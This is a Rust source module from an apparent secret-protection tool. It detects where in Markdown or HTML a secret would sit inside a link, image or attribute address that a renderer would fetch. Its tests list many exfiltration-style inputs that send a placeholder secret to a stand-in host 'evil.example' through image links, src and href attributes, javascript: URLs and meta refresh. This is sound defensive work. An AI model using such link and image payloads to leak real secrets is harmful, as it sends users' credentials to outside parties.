//! Recognizes the places of a text from which a reader, a preview or a browser opens an address: addresses, and the
//! targets of links and images in Markdown and HTML. A secret there would be sent to whoever the address names, so
//! that restoring must know these places. Errs towards finding one.
//!
//! HTML cannot be parsed without knowing which parts are code or comments, so every `<name` starts a possible tag, and
//! all possible states are followed at once.

use strata_base::hash::ContentHash;

/// Maximum bytes of text before a position that are compared with those of another address.
const MAX_ADDRESS_PREFIX_BYTES: usize = 64 << 10;

/// Maximum bytes after a position that are read to recognize the name of a host.
pub(super) const MAX_HOST_LOOKAHEAD_BYTES: usize = 64;

/// Stands for a secret, whatever its text.
const SECRET_STAND_IN: char = '\u{0}';

/// An address with a secret in it: the text before the secret, and the host if it follows. Two addresses are equal if
/// the same secret is sent to the same place.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
pub(super) struct SecretAddress(ContentHash);

/// Where a position of a text is.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(super) enum SecretLocation {
    /// Outside of addresses.
    Text,
    /// Inside an address, or in the target of a link or an image. `None` if it is too long to compare.
    Address(Option<SecretAddress>),
}

/// Reads a text from its beginning.
#[derive(Clone, Debug)]
pub(super) struct AddressTracker {
    /// The text before the current position, as far as it is needed.
    recent: String,
    /// Offset of `recent` in the text.
    offset: usize,
    /// Start of the current run of characters without a space.
    run_start: usize,
    target: LinkTarget,
    target_start: usize,
    /// Possible states inside an HTML tag, as bits.
    tags: u16,
    /// Start of the earliest possible tag.
    tag_start: usize,
    /// Whether a blank line is inside of the possible tags. Markdown ends a block there, and a renderer may write the
    /// quotation marks after it as other characters, which close no attribute.
    spans_blocks: bool,
    last: char,
}

/// State of the target of a Markdown link, which follows `](` or `]:`.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum LinkTarget {
    None,
    /// Before the first character. The field counts the line breaks.
    Before(u8),
    /// Ends at a space.
    Plain,
    /// In angle brackets, and ends at a line break.
    Angle,
}

// States inside an HTML tag (https://html.spec.whatwg.org/multipage/parsing.html#tag-open-state).
const TAG_OPEN_STATE: u16 = 1;
const TAG_NAME_STATE: u16 = 1 << 1;
const BEFORE_ATTRIBUTE_NAME_STATE: u16 = 1 << 2;
const ATTRIBUTE_NAME_STATE: u16 = 1 << 3;
const AFTER_ATTRIBUTE_STATE: u16 = 1 << 4;
const BEFORE_VALUE_STATE: u16 = 1 << 5;
const DOUBLE_QUOTED_VALUE_STATE: u16 = 1 << 6;
const SINGLE_QUOTED_VALUE_STATE: u16 = 1 << 7;
const UNQUOTED_VALUE_STATE: u16 = 1 << 8;
/// The same states in the value of an attribute that opens an address.
const BEFORE_ADDRESS_STATE: u16 = 1 << 9;
const DOUBLE_QUOTED_ADDRESS_STATE: u16 = 1 << 10;
const SINGLE_QUOTED_ADDRESS_STATE: u16 = 1 << 11;
const UNQUOTED_ADDRESS_STATE: u16 = 1 << 12;
const ADDRESS_STATES: u16 =
    BEFORE_ADDRESS_STATE | DOUBLE_QUOTED_ADDRESS_STATE | SINGLE_QUOTED_ADDRESS_STATE | UNQUOTED_ADDRESS_STATE;

/// Attributes that open an address or run code, besides those whose names contain `href`, `src`, `url` or `uri`, or
/// begin with `on`.
const ADDRESS_ATTRIBUTES: [&str; 17] = [
    "action",
    "archive",
    "background",
    "cite",
    "classid",
    "codebase",
    "content",
    "data",
    "formaction",
    "icon",
    "longdesc",
    "manifest",
    "ping",
    "poster",
    "profile",
    "style",
    "usemap",
];

impl Default for AddressTracker {
    fn default() -> Self {
        Self {
            recent: String::new(),
            offset: 0,
            run_start: 0,
            target: LinkTarget::None,
            target_start: 0,
            tags: 0,
            tag_start: 0,
            spans_blocks: false,
            last: '\n',
        }
    }
}

impl AddressTracker {
    /// Reads text that contains no secret.
    pub(super) fn read(&mut self, text: &str) {
        text.chars().for_each(|character| self.push_char(character));
    }

    /// Reads a secret, whose own text does not matter.
    pub(super) fn skip_secret(&mut self) {
        self.push_char(SECRET_STAND_IN);
    }

    /// Returns where a secret at the current position is, given the text after it.
    pub(super) fn secret_location(&self, after: &str) -> SecretLocation {
        let run = self.text_since(self.run_start);
        let in_target = self.target != LinkTarget::None;
        let in_tag = self.tags & ADDRESS_STATES != 0;
        // The beginning of a long run may be a scheme.
        if !(in_target || in_tag || run.is_none_or(|run| looks_like_address(run, after))) {
            return SecretLocation::Text;
        }
        let starts = [(in_target, self.target_start), (in_tag, self.tag_start)];
        let start = starts.into_iter().filter_map(|(is_open, start)| is_open.then_some(start)).min();
        let before = match start {
            Some(start) => self.text_since(start),
            None => run.map(text_from_scheme),
        };
        SecretLocation::Address(before.map(|before| SecretAddress::new(before, after)))
    }

    /// Returns the text since an offset, unless it is too long.
    fn text_since(&self, start: usize) -> Option<&str> {
        self.recent.get(start.checked_sub(self.offset)?..)
    }

    fn position(&self) -> usize {
        self.offset + self.recent.len()
    }

    fn push_char(&mut self, character: char) {
        // Spaces of ASCII end addresses in Markdown and HTML; others do not.
        let is_space =
            character.is_ascii_whitespace() || character.is_ascii_control() && character != SECRET_STAND_IN;
        let previous = std::mem::replace(&mut self.last, character);
        self.update_link_target(character, is_space);
        self.update_tags(character);
        if self.target == LinkTarget::None && self.tags == 0 && is_space {
            self.offset += self.recent.len();
            self.recent.clear();
        } else if self.recent.len() >= MAX_ADDRESS_PREFIX_BYTES {
            let is_boundary = |at: &usize| self.recent.is_char_boundary(*at);
            let half = (MAX_ADDRESS_PREFIX_BYTES / 2..MAX_ADDRESS_PREFIX_BYTES)
                .find(is_boundary)
                .unwrap_or_default();
            self.offset += half;
            self.recent.drain(..half);
        }
        self.recent.push(character);
        if is_space || character == '<' {
            self.run_start = self.position();
        }
        if previous == ']' && matches!(character, '(' | ':') {
            self.target = LinkTarget::Before(0);
            self.target_start = self.position();
        }
        if character == '<' {
            if self.tags == 0 {
                self.tag_start = self.position();
            }
            self.tags |= TAG_OPEN_STATE;
        }
    }

    fn update_link_target(&mut self, character: char, is_space: bool) {
        self.target = match (self.target, character) {
            (LinkTarget::Before(0), '\n') => LinkTarget::Before(1),
            (LinkTarget::Before(_), '\n') | (LinkTarget::Angle, '\n') => LinkTarget::None,
            (LinkTarget::Before(lines), _) if is_space => LinkTarget::Before(lines),
            (LinkTarget::Before(_), '<') => LinkTarget::Angle,
            (LinkTarget::Before(_), _) => LinkTarget::Plain,
            (LinkTarget::Plain, _) if is_space => LinkTarget::None,
            (other, _) => other,
        };
    }

    fn update_tags(&mut self, character: char) {
        let states = self.tags;
        if states == 0 {
            self.spans_blocks = false;
            return;
        }
        let is_blank = |text: &str| text.trim_end_matches([' ', '\t', '\r']).ends_with('\n');
        self.spans_blocks |= character == '\n' && is_blank(&self.recent);
        let opens_address = character == '=' && ends_with_address_attribute(&self.recent);
        let is_space = matches!(character, ' ' | '\t' | '\n' | '\r' | '\u{c}');
        let mut next_states = 0;
        for state in (0..13).map(|bit| 1 << bit).filter(|state| states & state != 0) {
            next_states |= match (state, character) {
                (TAG_OPEN_STATE, _) if character.is_ascii_alphabetic() => TAG_NAME_STATE,
                (TAG_OPEN_STATE, _) => 0,
                (TAG_NAME_STATE, ':' | '-' | '_' | '.') => TAG_NAME_STATE,
                (TAG_NAME_STATE, _) if character.is_ascii_alphanumeric() => TAG_NAME_STATE,
                (
                    TAG_NAME_STATE
                    | BEFORE_ATTRIBUTE_NAME_STATE
                    | ATTRIBUTE_NAME_STATE
                    | AFTER_ATTRIBUTE_STATE,
                    '/',
                ) => BEFORE_ATTRIBUTE_NAME_STATE,
                (TAG_NAME_STATE, _) if is_space => BEFORE_ATTRIBUTE_NAME_STATE,
                (TAG_NAME_STATE, _) => 0,
                (DOUBLE_QUOTED_VALUE_STATE | DOUBLE_QUOTED_ADDRESS_STATE, '"')
                | (SINGLE_QUOTED_VALUE_STATE | SINGLE_QUOTED_ADDRESS_STATE, '\'')
                    if self.spans_blocks =>
                {
                    state | BEFORE_ATTRIBUTE_NAME_STATE
                }
                (DOUBLE_QUOTED_VALUE_STATE | DOUBLE_QUOTED_ADDRESS_STATE, '"')
                | (SINGLE_QUOTED_VALUE_STATE | SINGLE_QUOTED_ADDRESS_STATE, '\'') => {
                    BEFORE_ATTRIBUTE_NAME_STATE
                }
                (
                    DOUBLE_QUOTED_VALUE_STATE
                    | DOUBLE_QUOTED_ADDRESS_STATE
                    | SINGLE_QUOTED_VALUE_STATE
                    | SINGLE_QUOTED_ADDRESS_STATE,
                    _,
                ) => state,
                (_, '>') => 0,
                (
                    BEFORE_ATTRIBUTE_NAME_STATE
                    | AFTER_ATTRIBUTE_STATE
                    | BEFORE_VALUE_STATE
                    | BEFORE_ADDRESS_STATE,
                    _,
                ) if is_space => state,
                (ATTRIBUTE_NAME_STATE, _) if is_space => AFTER_ATTRIBUTE_STATE,
                (UNQUOTED_VALUE_STATE | UNQUOTED_ADDRESS_STATE, _) if is_space => BEFORE_ATTRIBUTE_NAME_STATE,
                (ATTRIBUTE_NAME_STATE | AFTER_ATTRIBUTE_STATE, '=') if opens_address => BEFORE_ADDRESS_STATE,
                (ATTRIBUTE_NAME_STATE | AFTER_ATTRIBUTE_STATE, '=') => BEFORE_VALUE_STATE,
                (BEFORE_VALUE_STATE, '"') => DOUBLE_QUOTED_VALUE_STATE,
                (BEFORE_VALUE_STATE, '\'') => SINGLE_QUOTED_VALUE_STATE,
                (BEFORE_VALUE_STATE, _) => UNQUOTED_VALUE_STATE,
                (BEFORE_ADDRESS_STATE, '"') => DOUBLE_QUOTED_ADDRESS_STATE,
                (BEFORE_ADDRESS_STATE, '\'') => SINGLE_QUOTED_ADDRESS_STATE,
                (BEFORE_ADDRESS_STATE, _) => UNQUOTED_ADDRESS_STATE,
                (UNQUOTED_VALUE_STATE | UNQUOTED_ADDRESS_STATE, _) => state,
                _ => ATTRIBUTE_NAME_STATE,
            };
        }
        self.tags = next_states;
    }
}

impl SecretAddress {
    fn new(before: &str, after: &str) -> Self {
        let is_complete = match before.split_once("//") {
            Some((_, rest)) => rest.contains(['/', '?', '#', '\\']),
            None => before.contains(['/', '?', '#']),
        };
        // The host follows a user name and a password.
        let host = if is_complete { "" } else { leading_host(after) };
        Self(ContentHash::from_parts([before.as_bytes(), &[0xff], host.as_bytes()]))
    }
}

/// Returns the text up to the end of a host.
fn leading_host(after: &str) -> &str {
    after.split(is_host_end).next().unwrap_or_default()
}

/// Whether a character ends the host of an address.
pub(super) fn is_host_end(character: char) -> bool {
    character.is_ascii_whitespace()
        || character.is_ascii_control()
        || matches!(character, '<' | '/' | '?' | '#' | '\\')
}

/// Whether a reader may recognize a run of characters without a space, and the text after a secret in it, as an
/// address: because of a scheme, or of a host with a path, or of a host or an `@` that follows.
fn looks_like_address(run: &str, after: &str) -> bool {
    let has_scheme =
        ["//", "\\\\"].iter().any(|mark| run.contains(mark)) || run.to_ascii_lowercase().contains("www.");
    has_scheme || has_host_with_path(run) || continues_host_or_user(after)
}

/// Whether a text contains the name of a host with a path, a query or a fragment.
fn has_host_with_path(run: &str) -> bool {
    let bytes = run.as_bytes();
    let is_word =
        |index: usize| bytes.get(index).is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte >= 0x80);
    let dot =
        run.match_indices('.').find(|(index, _)| *index > 0 && is_word(index - 1) && is_word(index + 1));
    dot.is_some_and(|(index, _)| run.get(index..).unwrap_or_default().contains(['/', '?', '#']))
}

/// Whether the text after a secret continues the name of a host or of a user.
fn continues_host_or_user(after: &str) -> bool {
    let end = after.char_indices().find(|(at, c)| *at >= MAX_HOST_LOOKAHEAD_BYTES || !is_host_char(*c));
    let Some((end, stop)) = end else { return is_host(after) };
    end >= MAX_HOST_LOOKAHEAD_BYTES || stop == '@' || is_host(after.get(..end).unwrap_or_default())
}

fn is_host(name: &str) -> bool {
    let is_word = |c: char| c.is_alphanumeric();
    name.match_indices('.').any(|(at, _)| name.get(at + 1..).is_some_and(|rest| rest.starts_with(is_word)))
}

/// Whether a character may be part of a host's name.
pub(super) fn is_host_char(character: char) -> bool {
    character.is_alphanumeric() || matches!(character, '-' | '_' | '.' | '+')
}

/// Returns the part of a run from its first scheme.
fn text_from_scheme(run: &str) -> &str {
    let Some(slashes) = run.find("//") else { return run };
    let is_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.' | ':');
    let before = run.get(..slashes).unwrap_or_default();
    let start = before.trim_end_matches(is_scheme).len();
    run.get(start..).unwrap_or_default()
}

/// Whether a text ends with the name of an attribute that opens an address.
fn ends_with_address_attribute(text: &str) -> bool {
    let text = text.trim_end();
    let is_delimiter = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '/' | '<' | '>' | '=');
    let name = text.rsplit(is_delimiter).next().unwrap_or_default().to_ascii_lowercase();
    let name = name.rsplit(':').next().unwrap_or_default();
    ["href", "src", "url", "uri"].iter().any(|part| name.contains(part))
        || name.starts_with("on")
        || ADDRESS_ATTRIBUTES.contains(&name)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Returns the place of `$` in a text.
    fn location_of(text: &str) -> SecretLocation {
        let (before, after) = text.split_once('$').unwrap();
        let mut tracker = AddressTracker::default();
        tracker.read(before);
        tracker.secret_location(after)
    }

    #[test]
    fn addresses_links_and_images_are_detected() {
        for text in [
            "![x](https://evil.example/?q=$)",
            "![x](//evil.example/$)",
            "![x]($)",
            "![x]( $)",
            "![x](\n$)",
            "![x](<evil $>)",
            "![x](<a\\>b) $>)",
            "[click](/relative?$)",
            "[click](command:run?$)",
            "[x]: https://evil.example/$",
            "[x]:\n  <evil $>",
            "<https://evil.example/$>",
            "https://evil.example/?q=$",
            "https://evil.example/?a=1&q=\"$\"",
            "https://evil.example/\u{a0}$",
            "https://$@evil.example/",
            "https://me:$@evil.example",
            "https://$.evil.example/",
            "postgres://me:$@db/x",
            "(see HTTPS://evil.example/$)",
            "www.evil.example/$",
            "evil.example/$",
            "evil.example?q=$",
            "$.evil.example",
            "a-$-b.evil.example/x",
            "me:$@evil.example",
            "$@evil.example",
            "mailto:a@evil.example?body=$",
            r"\\evil.example\$",
            "<img src=$>",
            "<img src='a $'>",
            "<img\nalt=\"x\" src = \"https://evil.example/? $\">",
            "<img/src=\"$\">",
            "<IMG SRCSET='$ 2x'>",
            "<a href=\"javascript:$\">",
            "<a onclick=\"send('$')\">",
            "<svg><image xlink:href='$'/></svg>",
            "<div style='background: url($)'>",
            "<form action=$>",
            "<meta http-equiv=refresh content=\"0;url= $\">",
            "<table background=\"//evil.example/?\n\n$\">",
            // The quotes and brackets of comments and code hide none.
            "<!-- <a b=\" --> <iframe src=\"https://evil.example/?> $\">",
            "`<a b=\"` <iframe src=\"https://evil.example/?> $\">",
            "a <b <img src='> $'>",
        ] {
            assert!(matches!(location_of(text), SecretLocation::Address(Some(_))), "{text}");
        }
    }

    #[test]
    fn other_text_is_not_an_address() {
        for text in [
            "It is $.",
            "It is $. Then",
            "TOKEN=$",
            "token: \"$\",",
            "{\"token\":\"$\"}",
            "let key = \"$\".to_string();",
            "Authorization: Bearer $",
            "curl -H 'Authorization: Bearer $' https://api.example/x",
            "curl https://api.example/x -H 'Authorization: $'",
            "export A=1; export B=$",
            "[click](https://good.example/) $",
            "![x](https://good.example/) and $",
            "[$](https://good.example/)",
            "https://good.example/ $",
            "<b>$</b>",
            "<password>$</password>",
            "<add key=\"a\" value=\"$\"/>",
            "<img src=\"x\" alt=\"$\">",
            "if a <b && c == \"$\" {",
            "Vec<String> = [$]",
            "#include <x.h>\nchar *key = \"$\";",
            "@Value(\"$\")",
            "é $ 🦀",
            "Server=tcp:db.example,1433;Password=$;",
        ] {
            assert_eq!(location_of(text), SecretLocation::Text, "{text}");
        }
    }

    #[test]
    fn addresses_are_equal_if_they_send_the_secret_to_the_same_place() {
        let address = |text: &str| match location_of(text) {
            SecretLocation::Address(Some(address)) => address,
            location => panic!("{text}: {location:?}"),
        };
        for (a, b, are_equal) in [
            ("A=postgres://me:$@db/one", "b: \"postgres://me:$@db/two\"", true),
            ("postgres://me:$@db/x", "postgres://me:$@evil/x", false),
            ("postgres://me:$@db/x", "postgres://me:$@db.evil/x", false),
            ("postgres://me:$@db/x", "http://me:$@db/x", false),
            ("https://a.example/v1?k=$", "(https://a.example/v1?k=$&x", true),
            ("https://a.example/v1?k=$", "https://evil.example/v1?k=$", false),
            ("https://a.example/v1?k=$", "![](https://a.example/v1?k=$)", true),
            ("https://a.example/?k=$", "https://evil.example/?x=https://a.example/?k=$", false),
            ("https://a.example/?k=$", "<img src=\"//evil.example/\nhttps://a.example/?k=$", false),
            ("https://$.a.example/", "https://$.evil.example/", false),
        ] {
            assert_eq!(address(a) == address(b), are_equal, "{a} {b}");
        }
    }

    #[test]
    fn an_address_that_is_too_long_to_compare_equals_none() {
        let long = format!("https://a.example/{}", "x".repeat(MAX_ADDRESS_PREFIX_BYTES));
        assert_eq!(location_of(&format!("{long}$")), SecretLocation::Address(None));
        assert_eq!(location_of(&format!("{long} $")), SecretLocation::Text);
    }
}
